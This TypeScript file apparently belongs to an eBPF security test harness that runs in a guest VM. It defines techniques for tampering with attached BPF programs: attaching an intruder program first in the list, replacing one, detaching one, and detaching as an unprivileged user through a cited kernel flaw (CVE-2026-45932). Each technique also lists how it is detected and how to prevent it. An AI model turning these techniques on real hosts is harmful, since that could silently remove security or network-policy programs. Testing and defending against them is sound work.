// SPDX-License-Identifier: Apache-2.0

import { attachTypes } from "../../../base/bpf.js";
import { BpfAttr } from "../../../machine/guest/bpf-attr.js";
import { bpf } from "../../../machine/guest/bpf-call.js";
import { openById } from "../../../machine/guest/bpf-objects.js";
import { attachFlags } from "../../chain/hook-list.js";
import { attachTypeOf } from "../hooks.js";
import type { Stage } from "../stage.js";
import type { Technique } from "../technique.js";
import { passing } from "../verdicts.js";

const ordered = ["tcx", "netkit"] as const;
const unprivileged = 65534;

/** The program itself, found by its id. */
async function withProgram<T>({ guest, programId }: Stage, work: (handle: number) => Promise<T>): Promise<T> {
	const handle = await openById(guest.client, "prog", programId);
	if (handle === undefined) throw new Error(`program ${programId} is gone`);
	try {
		return await work(handle);
	} finally {
		await guest.client.call("close", { handle });
	}
}

export const listTechniques: readonly Technique[] = [
	{
		name: "program-before",
		group: "hook",
		summary: "attaches a program before the first of the list (BPF_F_BEFORE); its verdict ends the list",
		needs: "root",
		kinds: ordered,
		betrayedBy: ["bpf", "poll"],
		advice: "compare the whole list and its revision: no netlink message reports the change",
		intruder: (stage) => ({ verdict: passing(stage.kind) }),
		async carryOut(stage, intruder) {
			const { errno } = await stage.list().createLink(intruder, { flags: attachFlags.before });
			return { call: "BPF_LINK_CREATE with BPF_F_BEFORE", errno };
		},
	},
	{
		name: "program-replaced",
		group: "hook",
		summary: "puts another program in its place in the list (BPF_F_REPLACE)",
		needs: "root",
		kinds: [...ordered, "cgroup"],
		betrayedBy: ["bpf", "poll"],
		advice: "hold the program by a link: the kernel refuses then",
		intruder: (stage) => ({ verdict: passing(stage.kind) }),
		carryOut: (stage, intruder) =>
			withProgram(stage, async (handle) => {
				const multi = stage.kind === "cgroup" ? attachFlags.multi : 0;
				const place = { flags: attachFlags.replace | multi, replaced: { handle } };
				const errno = await stage.list().attach(intruder, place);
				return { call: "BPF_PROG_ATTACH with BPF_F_REPLACE", errno };
			}),
	},
	{
		name: "program-detached",
		group: "hook",
		summary: "finds the program by its id and detaches it with BPF_PROG_DETACH",
		needs: "root",
		kinds: [...ordered, "cgroup"],
		betrayedBy: ["bpf", "poll"],
		advice: "hold the program by a link: the kernel refuses then",
		carryOut: (stage) =>
			withProgram(stage, async (handle) => {
				const errno = await stage.list().detach({ handle });
				return { call: "BPF_PROG_DETACH", errno };
			}),
	},
	{
		name: "detached-by-any-user",
		group: "hook",
		summary: "detaches the program as a user without any capability (CVE-2026-45932)",
		needs: "nothing",
		kinds: ordered,
		betrayedBy: ["bpf", "poll"],
		advice: "hold the program by a link, and use a kernel with the correction (6.18.14, 6.19.4)",
		async carryOut(stage) {
			const { client } = stage.guest;
			const { target, ...netns } = stage.place();
			const { user } = await client.call("user_start", { uid: unprivileged, gid: unprivileged, ...netns });
			try {
				const type = attachTypes.number(attachTypeOf(stage.hook)!)!;
				const attr = new BpfAttr(32).u32(0, target as number).u32(8, type);
				const { errno } = await bpf(client.as(user), "prog_detach", attr);
				return { call: "BPF_PROG_DETACH without a program", errno };
			} finally {
				await client.call("close", { handle: user });
			}
		},
	},
];
